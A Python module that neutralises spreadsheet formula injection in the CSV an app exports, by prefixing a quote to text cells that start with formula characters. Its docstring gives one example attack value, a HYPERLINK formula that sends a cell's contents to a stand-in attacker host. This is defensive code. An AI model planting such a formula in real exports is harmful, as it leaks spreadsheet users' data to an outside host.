"""CSV the app writes: cells that a spreadsheet would read as a formula are neutralised.

A name such as ``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` typed into the app would be a
live formula in the planner's Excel or LibreOffice. Following OWASP's advice on CSV injection,
a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single
quote in front (shown, and the cell stays text). Numbers stay numbers, and a text that is only
a number (``-12.5``) or only one character (the tables' ``-`` for "none") is left as it is: no
formula can hide in it. Every CSV writer of the app goes through :func:`csv_text`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def safe_cell(value):
    """*value* as a CSV cell that no spreadsheet evaluates."""
    if not isinstance(value, str) or len(value) < 2 or not value.startswith(FORMULA_STARTS):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_text(headers: Iterable, rows: Iterable[Iterable]) -> str:
    """The table as CSV text (Excel's dialect), every cell through :func:`safe_cell`."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow([safe_cell(h) for h in headers])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return buf.getvalue()
